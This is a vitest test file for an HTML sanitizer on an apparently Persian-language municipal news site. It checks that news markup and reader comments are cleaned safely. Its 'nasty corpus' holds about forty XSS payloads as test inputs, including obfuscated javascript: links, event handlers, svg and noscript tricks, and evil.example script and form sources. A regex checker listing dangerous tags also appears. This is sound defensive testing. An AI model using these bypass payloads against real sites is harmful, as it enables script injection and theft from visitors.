import { describe, expect, it } from 'vitest';
import { htmlToPlainText, sanitizeCommentText, sanitizeNewsHtml } from './sanitize.js';

const isOwnMediaUrl = (src: string) => /^\/media\/[a-z0-9][a-z0-9/_-]*\.(jpe?g|webp|png)$/i.test(src) && !src.includes('..');
const clean = (html: string) => sanitizeNewsHtml(html, { isOwnMediaUrl });

/** Nothing executable or styled may survive, whatever the input. */
function expectInert(out: string): void {
  expect(out).not.toMatch(/<\s*(script|style|iframe|object|embed|form|svg|math|input|button|link|meta|base|textarea|template)\b/i);
  // Attribute values are always double-quoted with " escaped, so this leaves only names.
  const names = out.replace(/="[^"]*"/g, '=""');
  expect(names).not.toMatch(/\son[a-z]+\s*=/i);
  expect(names).not.toMatch(/\s(style|srcset|target)\s*=/i);
  expect(out).not.toMatch(/(java|vb)script\s*:/i);
  expect(out).not.toMatch(/data\s*:/i);
  expect(out).not.toMatch(/<!--/);
}

describe('sanitizeNewsHtml: the nasty corpus', () => {
  const cases: [string, string, string][] = [
    ['script element', '<p>سلام</p><script>alert(1)</script>', '<p>سلام</p>'],
    ['script in mixed case with attributes', '<p>a<ScRiPt src="//evil.example/x.js">alert(1)</ScRiPt>b</p>', '<p>ab</p>'],
    ['onerror on an image', '<img src="/media/a.jpg" onerror="alert(1)" alt="x">', '<img src="/media/a.jpg" alt="x" />'],
    ['img src=x onerror', '<p>متن<img src=x onerror=alert(1)></p>', '<p>متن</p>'],
    ['javascript: link', '<a href="javascript:alert(1)">کلیک</a>', 'کلیک'],
    ['javascript: link, mixed case and spaces', '<a href="  JaVaScRiPt:alert(1)">کلیک</a>', 'کلیک'],
    ['javascript: link with an entity newline', '<a href="java&#x0A;script:alert(1)">x</a>', 'x'],
    ['javascript: link with a tab entity', '<a href="jav&#x09;ascript:alert(1)">x</a>', 'x'],
    ['javascript: link with an encoded letter', '<a href="&#106;avascript:alert(1)">x</a>', 'x'],
    ['javascript: link with &colon;', '<a href="javascript&colon;alert(1)">x</a>', 'x'],
    ['javascript: link with a leading control character', '<a href="&#x01;javascript:alert(1)">x</a>', 'x'],
    ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', 'x'],
    ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', 'x'],
    ['data: image', '<img src="data:image/png;base64,iVBORw0KGgo=">', ''],
    ['style attribute', '<p style="background:url(javascript:alert(1))">متن</p>', '<p>متن</p>'],
    ['style element', '<style>body{display:none}</style><p>متن</p>', '<p>متن</p>'],
    ['iframe', '<iframe src="https://evil.example"></iframe><p>x</p>', '<p>x</p>'],
    ['object and embed', '<object data="x.swf"><embed src="x.swf"></object><p>x</p>', '<p>x</p>'],
    ['form and input', '<form action="https://evil.example"><input name="p"><button>ارسال</button></form>', ''],
    ['svg with onload', '<svg onload="alert(1)"><circle r="5"/></svg><p>x</p>', '<p>x</p>'],
    ['svg hiding a script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">y</a></svg>', ''],
    ['math', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ''],
    ['foreign image host', '<figure><img src="https://evil.example/media/a.jpg"><figcaption>عکس</figcaption></figure>', '<figure><figcaption>عکس</figcaption></figure>'],
    ['protocol-relative image', '<img src="//evil.example/media/a.jpg">', ''],
    ['backslash protocol-relative link', '<a href="\\\\evil.example/">x</a>', 'x'],
    ['comment trick', '<!--><script>alert(1)</script>--><p>x</p>', '--&gt;<p>x</p>'],
    ['conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>', '<p>x</p>'],
    ['nested paragraphs', '<p><p>یک</p></p>', '<p></p><p>یک</p><p></p>'],
    ['unclosed tags', '<p><strong>پررنگ<em>کج', '<p><strong>پررنگ<em>کج</em></strong></p>'],
    ['target and rel from the editor', '<a href="/news/1" target="_blank" rel="opener">خبر</a>', '<a href="/news/1">خبر</a>'],
    ['id, class and data attributes', '<p id="x" class="y" data-z="1">متن</p>', '<p>متن</p>'],
    ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/"><p>x</p>', '<p>x</p>'],
    ['unknown tag keeps its text', '<div><span>متن</span></div>', 'متن'],
    ['image with junk dimensions', '<img src="/media/a.jpg" width="100%" height="expression(alert(1))">', '<img src="/media/a.jpg" />'],
    ['img with a traversal path', '<img src="/media/../secret.jpg">', ''],
    ['split script tag', '<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
    ['noscript attribute mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''],
    ['attribute breaking out of alt', '<img src="/media/a.jpg" alt="&quot; onerror=&quot;alert(1)">', '<img src="/media/a.jpg" alt="&quot; onerror=&quot;alert(1)" />'],
    ['srcset pointing elsewhere', '<img src="/media/a.jpg" srcset="https://evil.example/x.jpg 2x">', '<img src="/media/a.jpg" />'],
    ['slash-separated handler', '<p/onmouseover=alert(1)>b</p>', '<p>b</p>'],
    ['space inside javascript:', '<a href="java script:alert(1)">x</a>', 'x'],
  ];

  it.each(cases)('%s', (_name, input, expected) => {
    const out = clean(input);
    expect(out).toBe(expected);
    expectInert(out);
  });

  it('stays inert when fed its own output again (idempotent)', () => {
    for (const [, input] of cases) {
      const once = clean(input);
      expect(clean(once)).toBe(once);
    }
  });

  it('an absolute link gets rel="noopener noreferrer" and never a target', () => {
    expect(clean('<a href="https://tehran.ir/">شهرداری تهران</a>')).toBe(
      '<a href="https://tehran.ir/" rel="noopener noreferrer">شهرداری تهران</a>',
    );
    expect(clean('<a href="mailto:pr@example.ir">ایمیل</a>')).toBe('<a href="mailto:pr@example.ir">ایمیل</a>');
    expect(clean('<a href="/news/12?x=1#top">خبر</a>')).toBe('<a href="/news/12?x=1#top">خبر</a>');
  });

  it('flattens pathologically deep nesting, keeping the text', () => {
    const deep = '<blockquote>'.repeat(200) + 'عمق' + '</blockquote>'.repeat(200);
    const out = clean(deep);
    expect(out.match(/<blockquote>/g)!.length).toBe(20);
    expect(out).toContain('عمق');
  });

  it('maps what editors commonly send onto the allow-list', () => {
    expect(clean('<h1>تیتر</h1><h4>زیرتیتر</h4><b>پررنگ</b><i>کج</i>')).toBe('<h2>تیتر</h2><h3>زیرتیتر</h3><strong>پررنگ</strong><em>کج</em>');
  });
});

describe('sanitizeNewsHtml: good content passes through intact', () => {
  const good = [
    '<p>به گزارش روابط‌عمومی منطقهٔ ۲۱، عملیات بهسازی بوستان «چیتگر» با حضور شهردار منطقه آغاز شد.</p>',
    '<h2>جزئیات طرح</h2>',
    '<p>این طرح در <strong>سه</strong> مرحله و با <em>مشارکت</em> شهروندان اجرا می‌شود؛ هزینهٔ آن ۱۲٫۵ میلیارد ریال است.</p>',
    '<h3>مراحل</h3>',
    '<ol><li>جمع‌آوری پسماند</li><li>کاشت نهال</li><li>نصب روشنایی</li></ol>',
    '<ul><li>ناحیهٔ ۱</li><li>ناحیهٔ ۲</li></ul>',
    '<blockquote><p>«هدف ما افزایش سرانهٔ فضای سبز است.»</p></blockquote>',
    '<p>متن کامل در <a href="https://region21.tehran.ir/news/42" rel="noopener noreferrer">پایگاه منطقه</a> و <a href="/portal/news/43">خبر قبلی</a> آمده است.</p>',
    '<figure><img src="/media/2025/03/abc123-1200.webp" alt="کاشت نهال در بوستان" width="1200" height="800" /><figcaption>کاشت نهال، عکس از واحد عکس</figcaption></figure>',
    '<p>خط اول<br />خط دوم — Latin text, 2025 &amp; more: a &lt; b</p>',
  ].join('');

  it('keeps Persian paragraphs, headings, lists, quotes, links and our own images byte for byte', () => {
    expect(clean(good)).toBe(good);
  });

  it('leaves text alone: ZWNJ, Arabic letters and spacing are not normalised here', () => {
    const text = '<p>كتاب هاي  مي شود‌ ‌ي (٢٠٢٥)</p>';
    expect(clean(text)).toBe(text);
  });
});

describe('htmlToPlainText', () => {
  it('gives the text of blocks as paragraphs, decodes entities and drops scripts', () => {
    const html =
      '<h2>تیتر</h2><p>پاراگراف <strong>اول</strong> &amp; دوم&nbsp;است.</p><ul><li>یک</li><li>دو</li></ul>' +
      '<p>خط<br>بعدی</p><script>alert("x")</script><style>p{}</style><p>a &lt;b&gt; "c"</p>';
    expect(htmlToPlainText(html)).toBe('تیتر\n\nپاراگراف اول & دوم است.\n\nیک\nدو\n\nخط\nبعدی\n\na <b> "c"');
  });

  it('is empty for markup without text', () => {
    expect(htmlToPlainText('<p> </p><img src="/media/a.jpg"><script>x</script>')).toBe('');
  });

  it('does not run words of two blocks together', () => {
    expect(htmlToPlainText('<p>الف</p><p>ب</p>')).toBe('الف\n\nب');
    expect(htmlToPlainText('<div>الف</div><div>ب</div>')).toBe('الف\n\nب');
  });
});

describe('sanitizeCommentText', () => {
  it('removes bidi overrides and isolates that could disguise a comment', () => {
    const spoof = 'سلام \u202Eabc\u202C و \u2066x\u2069 \u202A\u202B\u202D\u2067\u2068';
    expect(sanitizeCommentText(spoof)).toBe('سلام abc و x');
  });

  it('removes control characters but keeps ZWNJ, ZWJ and direction marks', () => {
    expect(sanitizeCommentText('می\u200Cشود\u0000\u0007\u001B[31m\u0085\u200D\u200E\u200F')).toBe('می\u200Cشود[31m\u200D\u200E\u200F');
  });

  it('unifies line ends, collapses more than two blank lines, trims', () => {
    expect(sanitizeCommentText('  \r\nیک  \r\n\r\n\r\n\r\n\r\nدو\rسه\n\n\nچهار\t\n  ')).toBe('یک\n\n\nدو\nسه\n\n\nچهار');
  });

  it('is never HTML: markup stays as the text it is', () => {
    expect(sanitizeCommentText('<b>سلام</b> & <script>')).toBe('<b>سلام</b> & <script>');
  });

  it('replaces a lone surrogate instead of passing broken UTF-16 on', () => {
    expect(sanitizeCommentText('a\uD800b')).toBe('a\uFFFDb');
    expect(sanitizeCommentText('😀')).toBe('😀');
  });
});
